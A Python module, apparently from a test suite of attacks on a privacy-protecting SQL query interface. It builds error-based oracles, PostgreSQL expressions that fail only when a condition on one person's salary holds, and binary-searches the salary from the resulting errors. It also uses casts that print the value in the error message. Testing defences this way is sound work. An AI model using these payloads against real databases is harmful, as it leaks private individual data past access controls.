"""Errors as an oracle: an expression that fails on one row, if a secret holds."""

from __future__ import annotations

import re

import psycopg

from attacks.attack import REFUSALS, Family
from attacks.office import DOORS, Door, Guess, Office, searched

# what the expressions fail with: class 22, or a text that is too long
DATA_ERROR = re.compile("22...|54000")
# {} stands for the condition on which it fails
FAILING = {
    "division by zero": "1 / (CASE WHEN {} THEN 0 ELSE 1 END)",
    "sqrt, ln, power": "sqrt(CASE WHEN {} THEN -1 ELSE 1 END)",
    "regular expressions": "CASE WHEN 'a' ~ (CASE WHEN {} THEN '(' ELSE 'a' END) THEN 1 ELSE 0 END",
    "dates": "extract(year FROM make_date(2000, CASE WHEN {} THEN 13 ELSE 1 END, 1))",
    "array bounds": "array_length(array_fill(1, ARRAY[CASE WHEN {} THEN -1 ELSE 1 END]), 1)",
    "json": "length((CASE WHEN {} THEN '{' ELSE '1' END)::json::text)",
    "a text that grows": "length(repeat('xxxxxxxxxx', CASE WHEN {} THEN 200000000 ELSE 1 END))",
    "overflow": "CASE WHEN {} THEN 2147483647 ELSE 0 END + 1",
}


def by_failure(expression: str) -> Guess:
    def guess(door: Door, who: str) -> float:
        door.share(18)

        def fails(condition: str) -> bool:
            try:
                door.ask(f"sum({expression.replace('{}', condition)})", repeats=1)
            except psycopg.Error as error:
                if not DATA_ERROR.fullmatch(error.sqlstate or "") and error.sqlstate not in REFUSALS:
                    raise
                return True
            return False

        if fails(f"{who} AND p.salary < 0"):
            door.ask(f"sum({expression.replace('{}', f'{who} AND p.salary < -1')})", repeats=1)
        return searched(lambda middle: fails(f"{who} AND p.salary >= {middle}"))

    return guess


def printed(expression: str) -> Guess:
    """The message of the error has the value in it."""

    def guess(door: Door, who: str) -> float:
        door.share(1)
        try:
            door.ask(f"sum({expression})", who, repeats=1)
        except psycopg.Error as error:
            found = re.search(r"(\d{5})\D*$", error.diag.message_primary or "")
            if found is None or (error.sqlstate or "").startswith("DP"):
                raise
            return float(found[1])
        return 0.0

    return guess


def attacks(office: Office) -> Family:
    failing = [office.attack(name, by_failure(expression)) for name, expression in FAILING.items()]
    return Family(
        "Errors as an oracle",
        "The salary of one person, by an expression that fails if it is at least so much, or whose error prints it.",
        DOORS,
        (
            *failing,
            office.attack("casts that print the value", printed("CAST('salary ' || p.salary AS int)")),
            office.attack("whole-row references", printed("CAST(p::text AS int)")),
        ),
    )
